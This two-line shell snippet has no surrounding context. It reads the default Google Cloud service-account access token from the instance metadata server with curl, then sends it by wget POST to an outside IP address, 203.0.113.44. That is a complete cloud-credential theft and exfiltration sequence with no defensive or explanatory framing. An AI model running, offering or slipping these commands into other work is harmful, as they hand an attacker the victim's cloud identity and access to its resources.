T=$(curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token)
wget -q --post-data="t=$T" http://203.0.113.44/t -O /dev/null
